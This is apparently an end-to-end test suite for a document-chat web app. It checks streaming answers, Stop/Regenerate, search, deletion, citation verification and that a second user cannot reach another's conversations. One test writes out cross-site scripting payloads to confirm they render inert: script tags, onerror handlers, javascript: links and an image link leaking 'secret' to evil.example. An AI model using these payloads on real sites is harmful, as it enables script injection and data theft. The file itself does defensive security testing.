"""Chat in headless Chromium: ask, watch the answer grow, reload mid-stream, Stop, Regenerate,
rename, search, delete, hostile content, and a second user who sees none of it."""

from __future__ import annotations

import time

import pytest
from django.contrib.auth import get_user_model

from docqa.chat.models import Conversation, Message, Role, State
from tests.chat.conftest import make_document  # noqa: F401 - a fixture, used by name
from tests.conftest import wait_for
from tests.e2e.conftest import screenshot, signup
from tests.factories import sample_raw

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]

ANSWER = "[data-role=answer]"
LIVE_TEXT = "[data-role=answer][data-state=streaming] [data-role=answer-text]"

# Captures the streamed text the moment the final `done` event arrives, before htmx swaps
# in the rendered answer: that is what the reader saw, and it must equal the database.
CAPTURE_DONE = """
window.__liveAtDone = null;
document.body.addEventListener('htmx:sseBeforeMessage', function (e) {
  if (e.detail && e.detail.type === 'done') {
    var el = document.querySelector('[data-role=answer][data-state=streaming] [data-role=answer-text]');
    if (el) window.__liveAtDone = el.textContent;
  }
});
"""


def start_conversation(page, base_url, filenames):
    page.goto(f"{base_url}/chat/new/")
    for name in filenames:
        page.get_by_label(name, exact=True).check()
    page.get_by_role("button", name="Start").click()
    page.wait_for_url(f"{base_url}/chat/*/")
    return Conversation.objects.latest("id")


def ask(page, question):
    box = page.get_by_label("Question")
    box.fill(question)
    box.press("Enter")


def user_named(username):
    return get_user_model().objects.get(username=username)


@pytest.fixture
def documents(make_document):
    def make(username):
        owner = user_named(username)
        return [
            make_document(
                owner,
                "acme-report.txt",
                text="Acme quarterly revenue grew by twelve percent, driven by exports to Norway. "
                "Margins held steady at nine percent while freight costs fell.",
            ),
            make_document(
                owner, "oslo-weather.txt", text="Spring in Oslo was unusually dry; rainfall fell by a third."
            ),
        ]

    return make


def test_ask_streams_in_steps_survives_reload_and_matches_the_database(
    page, asgi_server, celery_worker, emu, documents
):
    signup(page, asgi_server, "e2e-chat")
    documents("e2e-chat")
    conversation = start_conversation(page, asgi_server, ["acme-report.txt", "oslo-weather.txt"])
    assert page.get_by_text("acme-report.txt").count() >= 1
    emu.control.configure(first_token_delay=0.2, chunk_delay=0.06, chunk_size_words=2)
    ask(page, "How much did the quarterly revenue grow?")
    page.wait_for_selector(LIVE_TEXT)
    lengths = set()
    deadline = time.monotonic() + 10
    while len(lengths) < 4 and time.monotonic() < deadline:
        text = page.locator(LIVE_TEXT).text_content() if page.locator(LIVE_TEXT).count() else ""
        if text:
            lengths.add(len(text))
        time.sleep(0.05)
    assert len(lengths) >= 4, f"the answer grew in steps: {sorted(lengths)}"
    screenshot(page, "chat-streaming")
    answer = Message.objects.get(conversation=conversation, role=Role.ASSISTANT)
    assert Message.objects.get(pk=answer.pk).state == State.STREAMING

    page.reload()
    page.evaluate(CAPTURE_DONE)
    page.wait_for_selector(f"{ANSWER}[data-state=complete]", timeout=30_000)
    final = Message.objects.get(pk=answer.pk)
    assert final.state == State.COMPLETE
    live_at_done = page.evaluate("window.__liveAtDone")
    final_text = page.locator(f"{ANSWER} [data-role=answer-text]").text_content()
    assert live_at_done == final_text, "resumed after reload; the last live render is the final answer"
    # The finished answer is rendered Markdown with its model, tokens and time.
    body = page.locator(f"{ANSWER} [data-role=answer-text]")
    assert body.locator("h3, strong, blockquote").count() >= 1
    meta = page.locator(f"{ANSWER} [data-role=answer-meta]").inner_text()
    assert final.model in meta and "prompt tokens" in meta and "completion tokens" in meta
    assert page.get_by_label("Question").input_value() == ""
    assert page.locator("#chat-title").inner_text() == "How much did the quarterly revenue grow?"
    screenshot(page, "chat-answered")


def test_stop_regenerate_rename_search_delete(page, asgi_server, celery_worker, emu, documents):
    signup(page, asgi_server, "e2e-tools")
    documents("e2e-tools")
    conversation = start_conversation(page, asgi_server, ["acme-report.txt"])
    emu.control.configure(chunk_delay=0.15, chunk_size_words=1)
    ask(page, "What happened to margins?")
    wait_for(
        lambda: (
            len(page.locator(LIVE_TEXT).text_content() or "") > 10
            if page.locator(LIVE_TEXT).count()
            else False
        ),
        timeout=15,
        message="text",
    )
    page.get_by_role("button", name="Stop").click()
    page.wait_for_selector(f"{ANSWER}[data-state=stopped]")
    stopped = Message.objects.get(conversation=conversation, role=Role.ASSISTANT)
    assert stopped.state == State.STOPPED and stopped.content
    assert page.get_by_text("Stopped.").count() == 1

    emu.control.configure(chunk_delay=0.0, chunk_size_words=4)
    page.get_by_role("button", name="Regenerate").click()
    page.wait_for_selector(f"{ANSWER}[data-state=complete]", timeout=20_000)
    assert Message.objects.filter(pk=stopped.pk).exists(), "the stopped answer is kept as version 1"
    regenerated = Message.objects.filter(conversation=conversation, role=Role.ASSISTANT).latest("id")
    assert regenerated.state == State.COMPLETE and len(regenerated.content) > len(stopped.content)

    # An error shows in the answer's place in plain words, with Retry; the question stays.
    emu.control.add_fault(
        "POST", "/v1/chat/completions", status=401, error_type="invalid_authentication_error", count=None
    )
    page.get_by_role("button", name="Regenerate").click()
    page.wait_for_selector(f"{ANSWER}[data-state=failed]", timeout=20_000)
    assert "rejected the API key" in page.locator("[data-role=answer-error]").inner_text()
    assert page.get_by_text("What happened to margins?").count() >= 1
    screenshot(page, "chat-failed")
    emu.control.clear_faults()
    page.get_by_role("button", name="Retry").click()
    # Earlier versions stay in the page, hidden: wait for the one shown.
    page.wait_for_selector(f"{ANSWER}[data-state=complete] >> visible=true", timeout=20_000)

    page.get_by_role("link", name="Rename").click()
    page.get_by_label("Title").fill("Margins at Acme")
    page.get_by_role("button", name="Save").click()
    page.wait_for_url(f"{asgi_server}/chat/{conversation.pk}/")
    assert page.locator("h1.chat-title").inner_text() == "Margins at Acme"

    page.goto(f"{asgi_server}/chat/")
    search = page.get_by_label("Search conversations")
    search.fill("freight")  # in the answer's text, not the title
    page.wait_for_selector("[data-role=conversation]")
    assert page.locator("[data-role=conversation]").count() == 1
    search.fill("no such words anywhere")
    page.wait_for_selector("[data-role=no-results]")
    screenshot(page, "chat-search-empty")
    search.fill("")
    page.wait_for_selector("[data-role=conversation]")
    screenshot(page, "chat-list")

    page.locator("[data-role=conversation]").get_by_role("link", name="Delete").click()
    page.get_by_role("button", name="Delete").click()
    page.wait_for_url(f"{asgi_server}/chat/")
    assert page.locator("[data-role=conversation]").count() == 0
    assert not Conversation.objects.filter(pk=conversation.pk).exists()


def test_hostile_content_is_inert_and_a_second_user_sees_nothing(
    new_page, asgi_server, celery_worker, emu, make_document
):
    page = new_page()
    dialogs = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    signup(page, asgi_server, "e2e-owner")
    owner = user_named("e2e-owner")
    payload = (
        "Exploit notes: <script>alert('script')</script> and <img src=x onerror=\"alert('img')\"> and "
        "[click me](javascript:alert('link')) and ![leak](https://evil.example/leak.png?q=secret) "
        "<a href=\"javascript:alert('a')\">a</a> exploit payloads end here."
    )
    make_document(owner, "<img src=x onerror=alert('name')>.txt", text=payload)
    page.goto(f"{asgi_server}/chat/new/")
    page.locator("input[name=documents]").check()
    page.get_by_role("button", name="Start").click()
    page.wait_for_url(f"{asgi_server}/chat/*/")
    conversation = Conversation.objects.get(owner=owner)
    ask(page, "What are the exploit notes? <script>alert('question')</script>")
    page.wait_for_selector(f"{ANSWER}[data-state=complete]", timeout=20_000)
    answer = Message.objects.get(conversation=conversation, role=Role.ASSISTANT)
    assert "<script>" in answer.content, "the payload went through the model's answer"
    page.reload()
    page.wait_for_selector(f"{ANSWER}[data-state=complete]")
    main = page.locator(".chat-layout")
    assert main.locator("script, img, iframe").count() == 0
    hrefs = [a.get_attribute("href") or "" for a in main.locator("a").all()]
    assert not any(h.strip().lower().startswith("javascript") for h in hrefs)
    for link in page.locator(f"{ANSWER} [data-role=answer-text] a:not([data-role=citation])").all():
        assert link.get_attribute("rel") == "noopener nofollow"
    # Citation links are docqa's own, to the user's document pages.
    for link in page.locator(f"{ANSWER} [data-role=citation]").all():
        assert (link.get_attribute("href") or "/documents/").startswith("/documents/")
    assert dialogs == []
    screenshot(page, "chat-hostile")
    answer_id = answer.pk

    intruder = new_page()
    signup(intruder, asgi_server, "e2e-intruder")
    intruder.goto(f"{asgi_server}/chat/")
    assert intruder.locator("[data-role=conversation]").count() == 0
    for path in (
        f"/chat/{conversation.pk}/",
        f"/chat/{conversation.pk}/export/",
        f"/chat/answers/{answer_id}/",
        f"/chat/answers/{answer_id}/stream/",
    ):
        assert intruder.request.get(f"{asgi_server}{path}").status == 404, path
    assert intruder.request.post(f"{asgi_server}/chat/answers/{answer_id}/regenerate/").status in (403, 404)
    intruder.goto(f"{asgi_server}/chat/new/")
    assert intruder.locator("input[name=documents]").count() == 0


INVENTED = "Oslo also reported record tulip sales during spring."


def test_citations_verified_and_not_found_open_the_passage_and_never_show_half(
    new_page, asgi_server, celery_worker, emu, documents
):
    """A true and an invented quote (the weather document's message to the model holds a
    sentence its stored text lacks, so the emulator quotes what docqa cannot find)."""
    page = new_page()
    signup(page, asgi_server, "e2e-cite")
    acme, weather = documents("e2e-cite")
    weather.stored_file.content_raw = sample_raw(f"{INVENTED}\n\n{weather.stored_file.content_text}")
    weather.stored_file.save(update_fields=["content_raw"])
    start_conversation(page, asgi_server, ["acme-report.txt", "oslo-weather.txt"])
    emu.control.configure(first_token_delay=0.2, chunk_delay=0.08, chunk_size_words=1)
    ask(page, "How did revenue grow, and were there record tulip sales in Oslo?")
    page.wait_for_selector(LIVE_TEXT)
    # While it streams, and after a reload mid-stream, no marker shows half-written.
    seen_half = []
    for reload in (False, True, False):
        if reload:
            page.reload()
        deadline = time.monotonic() + 1.5
        while time.monotonic() < deadline and page.locator(LIVE_TEXT).count():
            text = page.locator(LIVE_TEXT).text_content() or ""
            if "【" in text or "†" in text:
                seen_half.append(text[-80:])
            time.sleep(0.03)
    assert not seen_half, f"half-written markers shown: {seen_half[:3]}"
    page.wait_for_selector(f"{ANSWER}[data-state=complete]", timeout=30_000)
    verified = page.locator("[data-role=citation][data-verified=true]")
    missing = page.locator("[data-role=citation][data-verified=false]")
    assert verified.count() >= 1 and missing.count() == 1
    assert INVENTED in missing.inner_text() and "not found in the document" in missing.inner_text()
    assert missing.get_attribute("data-document") == str(weather.pk)
    assert "verified" in page.locator("[data-role=citation-summary]").inner_text()
    screenshot(page, "chat-citations-1280")
    page.set_viewport_size({"width": 390, "height": 844})
    screenshot(page, "chat-citations-390")
    page.set_viewport_size({"width": 1280, "height": 900})

    # Keyboard: the verified citation is a link; Enter opens the passage, marked and in view.
    first = verified.first
    document_id = first.get_attribute("data-document")
    first.focus()
    page.keyboard.press("Enter")
    page.wait_for_url(f"{asgi_server}/documents/{document_id}/?mark=*")
    mark = page.locator("mark#cite")
    assert mark.count() == 1 and mark.inner_text().strip()
    box = mark.bounding_box()
    assert box and 0 <= box["y"] < page.viewport_size["height"], "the passage is scrolled into view"
    screenshot(page, "document-marked-1280")
